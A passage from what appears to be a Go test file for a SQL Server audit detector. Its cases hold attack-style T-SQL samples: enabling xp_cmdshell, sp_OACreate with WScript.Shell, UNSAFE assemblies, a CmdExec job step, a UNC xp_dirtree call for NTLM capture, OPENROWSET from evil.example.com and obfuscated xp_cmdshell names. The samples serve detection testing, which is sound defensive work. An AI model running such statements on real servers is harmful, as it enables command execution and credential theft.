		{name: "select about it", recs: []audit.Record{rec("BCM", "", "SELECT * FROM sys.configurations WHERE name = 'xp_cmdshell'")}},
	},
	"EXE-002": {
		{name: "enable xp_cmdshell", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE")}, want: []string{"EXE-002/high"}, whyHas: "show advanced options"},
		{name: "ALST record", recs: []audit.Record{rec("ALST", "SR", "EXEC sys.sp_configure N'Ole Automation Procedures', N'1'")}, want: []string{"EXE-002/high"}},
		{name: "clr strict security off", recs: []audit.Record{rec("EX", "X", "exec sp_configure @configname = 'clr strict security', @configvalue = 0", obj("sp_configure"))}, want: []string{"EXE-002/high"}},
		{name: "disable", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'xp_cmdshell', 0")}},
		{name: "other option", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'max server memory (MB)', 1")}},
	},
	"EXE-003": {
		{name: "sp_oacreate", recs: []audit.Record{rec("BCM", "", "DECLARE @o int; EXEC sp_OACreate 'WScript.Shell', @o OUT")}, want: []string{"EXE-003/high"}},
		{name: "mention", recs: []audit.Record{rec("BCM", "", "SELECT 'sp_OACreate'")}},
	},
	"EXE-004": {
		{name: "unsafe assembly", recs: []audit.Record{rec("CR", "AS", "CREATE ASSEMBLY evil FROM 0x4D5A WITH PERMISSION_SET = UNSAFE", obj("evil"))}, want: []string{"EXE-004/high"}},
		{name: "XU", recs: []audit.Record{rec("XU", "SR", "")}, want: []string{"EXE-004/high"}},
		{name: "trusted assembly", recs: []audit.Record{rec("BCM", "", "EXEC sys.sp_add_trusted_assembly 0xABCD, N'evil'")}, want: []string{"EXE-004/high"}},
		{name: "safe assembly", recs: []audit.Record{rec("CR", "AS", "CREATE ASSEMBLY util FROM 0x4D5A WITH PERMISSION_SET = SAFE")}},
	},
	"EXE-005": {
		{name: "external script", recs: []audit.Record{rec("BCM", "", "EXEC sp_execute_external_script @language = N'Python', @script = N'import os'")}, want: []string{"EXE-005/medium"}},
		{name: "none", recs: []audit.Record{rec("BCM", "", "SELECT 1")}},
	},
	"EXE-006": {
		{name: "cmdexec step", recs: []audit.Record{rec("BCM", "", "EXEC msdb.dbo.sp_add_jobstep @job_name = N'j', @step_name = N's', @subsystem = N'CmdExec', @command = N'whoami'")}, want: []string{"EXE-006/medium"}, whyHas: "CmdExec"},
		{name: "tsql step", recs: []audit.Record{rec("BCM", "", "EXEC msdb.dbo.sp_add_jobstep @job_name = N'j', @step_name = N's', @subsystem = N'TSQL', @command = N'select 1'")}},
	},
	"EXE-007": {
		{name: "xp_dirtree unc", recs: []audit.Record{rec("BCM", "", `EXEC master.sys.xp_dirtree '\\203.0.113.66\share'`)}, want: []string{"EXE-007/medium"}, whyHas: "NTLM"},
		{name: "xp_regwrite", recs: []audit.Record{rec("EX", "X", "", obj("xp_regwrite"))}, want: []string{"EXE-007/medium"}},
		{name: "approved dba regread", recs: []audit.Record{rec("BCM", "", "EXEC xp_regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\\Microsoft'", by(`CONTOSO\dba`), ip("10.0.1.8"))}},
	},
	"EXE-008": {
		{name: "openrowset url", recs: []audit.Record{rec("BCM", "", "SELECT * FROM OPENROWSET(BULK 'https://evil.example.com/p.csv', SINGLE_CLOB) x")}, want: []string{"EXE-008/medium"}, whyHas: "https://evil.example.com/p.csv"},
		{name: "xml namespace", recs: []audit.Record{rec("BCM", "", "WITH XMLNAMESPACES ('http://schemas.microsoft.com/sqlserver/2004/07/showplan' AS sp) SELECT 1")}},
		{name: "allow-listed storage", recs: []audit.Record{rec("BCM", "", "BULK INSERT t FROM 'x.csv' WITH (DATA_SOURCE = 'https://backupacct.blob.core.windows.net/sql/x.csv')")}},
		{name: "backup left to EXF", recs: []audit.Record{rec("BCM", "", evilURL)}},
	},
	"EXE-010": {
		{name: "concatenated name", recs: []audit.Record{rec("BCM", "", "DECLARE @c nvarchar(99) = 'xp_' + 'cmd' + 'shell'; EXEC (@c + ' ''whoami''')")}, want: []string{"EXE-010/medium"}, whyHas: "xp_cmdshell"},
		{name: "char codes", recs: []audit.Record{rec("BCM", "", "DECLARE @c varchar(50) = CHAR(120)+CHAR(112)+CHAR(95)+'cmdshell'; EXEC(@c)")}, want: []string{"EXE-010/medium"}},
		{name: "hex literal", recs: []audit.Record{rec("BCM", "", "DECLARE @c varchar(50) = CAST(0x78705F636D647368656C6C AS varchar(50)); EXEC(@c)")}, want: []string{"EXE-010/medium"}},
		{name: "plain concatenation", recs: []audit.Record{rec("BCM", "", "SELECT 'Hello ' + 'world' + CHAR(10)")}},
		{name: "plain call", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'xp_cmdshell' + '', 0")}},
	},
	"EVA-001": {
		{name: "padded backup", recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}, want: []string{"EVA-001/medium"}, whyHas: "statement of 600"},
		{name: "long batch, any action", recs: []audit.Record{rec("SL", "U", "SELECT 1 /*"+strings.Repeat("x", 70_000)+"*/")}, want: []string{"EVA-001/medium"}, whyHas: "SL statement"},
		{name: "long batch without hints", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("SELECT 1; ", 7000))}, want: []string{"EVA-001/medium"}},
		{name: "counted in characters, not bytes", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("日", 30_000))}},
		{name: "astral characters count twice", recs: []audit.Record{rec("BCM", "DB", strings.Repeat("😀", 33_000))}, want: []string{"EVA-001/medium"}},
		{name: "below the threshold", recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 60_000))}},
		{name: "elided by the reader", recs: []audit.Record{rec("BA", "DB", evilURL, func(r *audit.Record) {
			r.Elided = audit.Elision{At: 20, Dropped: 9 << 20, Units: 10 << 20}
		})}, want: []string{"EVA-001/high"}, whyHas: "only its first and last bytes"},
		{name: "threshold setting", cfg: func(c *Config) { c.OversizedStatementChars = 1 << 20 }, recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}},
		{name: "allow-listed actors only through the rules file", recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 70_000), svc)}, want: []string{"EVA-001/medium"}},
		{name: "per-rule actor allow-list", cfg: func(c *Config) {
			c.Rules = map[string]RuleConfig{"EVA-001": {AllowedPrincipals: []string{`CONTOSO\svc-backup`}}}
		}, recs: []audit.Record{rec("BCM", "DB", padTo("INSERT INTO t VALUES (1)", 70_000), svc)}},
	},
	"EXE-011": {
		{name: "firewall rule", recs: []audit.Record{rec("BCM", "", "EXECUTE sp_set_firewall_rule @name = N'any', @start_ip_address = '0.0.0.0', @end_ip_address = '255.255.255.255'")}, want: []string{"EXE-011/medium"}},
		{name: "select rules", recs: []audit.Record{rec("BCM", "", "SELECT * FROM sys.firewall_rules")}},
	},
}

func TestRules(t *testing.T) {
	for _, info := range Catalog() {
		cases := ruleCases[info.ID]
		pos, neg := 0, 0
		for _, c := range cases {
			if len(c.want) > 0 {
				pos++
			} else {
				neg++
			}
		}
		if pos == 0 || neg == 0 {
			t.Errorf("%s: %d positive and %d negative cases, want at least one of each", info.ID, pos, neg)
		}
		for _, c := range cases {
			t.Run(info.ID+"/"+c.name, func(t *testing.T) {
				cfg := testConfig(t)
				if c.cfg != nil {
					c.cfg(&cfg)
				}
				recs := slices.Clone(c.recs)
				fs := run(t, cfg, recs)
				got := summary(fs, info.ID)
				if !slices.Equal(got, c.want) {
					t.Fatalf("findings = %q, want %q; all findings:%s", got, c.want, whys(fs))
				}
				if c.whyHas != "" {
					var why string
					for _, f := range fs {
						if f.Rule == info.ID {
							why = f.Why
							break
						}
					}
					if !strings.Contains(why, c.whyHas) {
						t.Errorf("why = %q, want it to contain %q", why, c.whyHas)
					}
				}
			})
		}
	}
	for id := range ruleCases {
		if ruleByID(id) == nil {
			t.Errorf("cases for unknown rule %s", id)
		}
	}
}
